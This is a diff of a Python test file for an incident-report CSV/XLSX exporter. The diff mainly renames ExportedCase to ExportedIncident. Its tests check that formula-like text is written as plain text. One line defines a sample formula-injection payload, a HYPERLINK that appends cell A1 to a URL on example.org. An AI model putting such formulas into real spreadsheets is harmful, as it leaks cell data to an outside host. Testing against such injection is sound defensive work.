@@ -15,7 +15,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from halton_desktop.domain.step import Step, StepKind, StepState
-from halton_desktop.exchange.incident_export import HEADINGS, ExportedCase, row_of, safe_cell, write_csv, write_xlsx
+from halton_desktop.exchange.incident_export import HEADINGS, ExportedIncident, row_of, safe_cell, write_csv, write_xlsx
 from tests.domain.cases import author, incident
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
@@ -26,7 +26,7 @@ STEPS = (
 )
 
 
-def written(case: ExportedCase) -> dict[str, str]:
+def written(case: ExportedIncident) -> dict[str, str]:
     """One case through the CSV file and back."""
     out = BytesIO()
     write_csv([case], out, lambda _done: None)
@@ -35,7 +35,7 @@ def written(case: ExportedCase) -> dict[str, str]:
 
 
 def test_a_csv_has_ids_dates_and_a_column_for_each_clause_and_flag() -> None:
-    row = written(ExportedCase(CASE, STEPS, with_account=True))
+    row = written(ExportedIncident(CASE, STEPS, with_account=True))
     assert tuple(row) == HEADINGS
     assert (row["id"], row["reference"], row["author_parent_ids"]) == ("1", "2026-0001", "1")
     assert (row["clause_3.1c"], row["clause_2.6"]) == ("yes", "")
@@ -43,11 +43,11 @@ def test_a_csv_has_ids_dates_and_a_column_for_each_clause_and_flag() -> None:
 
 
 def test_what_looks_like_a_formula_is_plain_text_in_both_files() -> None:
-    row = written(ExportedCase(CASE, (), with_account=True))
+    row = written(ExportedIncident(CASE, (), with_account=True))
     for name in ("authors", "place", "account"):
         assert row[name].startswith("'")
     out = BytesIO()
-    write_xlsx([ExportedCase(CASE, STEPS, with_account=True)], out, lambda _done: None)
+    write_xlsx([ExportedIncident(CASE, STEPS, with_account=True)], out, lambda _done: None)
     sheet = openpyxl.load_workbook(out).active
     assert sheet is not None
     kinds = {cell.data_type for line in sheet.iter_rows(min_row=2) for cell in line}
@@ -68,7 +68,7 @@ def test_no_text_begins_as_a_formula(text: str) -> None:
 def test_any_account_can_be_written_to_a_workbook(text: str) -> None:
     odd = replace(CASE, facts=replace(CASE.facts, account=text))
     out = BytesIO()
-    write_xlsx([ExportedCase(odd, (), with_account=True)], out, lambda _done: None)
+    write_xlsx([ExportedIncident(odd, (), with_account=True)], out, lambda _done: None)
     assert out.getvalue().startswith(b"PK")
 
 
@@ -81,7 +81,7 @@ def test_a_workbook_is_never_laid_down_in_a_temporary_file(tmp_path: Path, monke
     def look(_done: int) -> None:
         seen.extend(temporary.iterdir())
 
-    write_xlsx([ExportedCase(CASE, STEPS, with_account=True)] * 3, BytesIO(), look)
+    write_xlsx([ExportedIncident(CASE, STEPS, with_account=True)] * 3, BytesIO(), look)
     assert seen == []
 
 
@@ -89,7 +89,7 @@ def test_a_workbook_is_never_laid_down_in_a_temporary_file(tmp_path: Path, monke
 def test_what_is_written_to_a_workbook_is_what_is_read_back(text: str) -> None:
     odd = replace(CASE, facts=replace(CASE.facts, account=text))
     out = BytesIO()
-    write_xlsx([ExportedCase(odd, (), with_account=True)], out, lambda _done: None)
+    write_xlsx([ExportedIncident(odd, (), with_account=True)], out, lambda _done: None)
     sheet = openpyxl.load_workbook(out).active
     assert sheet is not None
     kept = "".join(sign for sign in text if sign not in "\x00\x0b\ud800")[:32_767]
@@ -99,4 +99,4 @@ def test_what_is_written_to_a_workbook_is_what_is_read_back(text: str) -> None:
 
 
 def test_an_account_stays_out_where_it_should() -> None:
-    assert row_of(ExportedCase(CASE, (), with_account=False))[-1] == ""
+    assert row_of(ExportedIncident(CASE, (), with_account=False))[-1] == ""
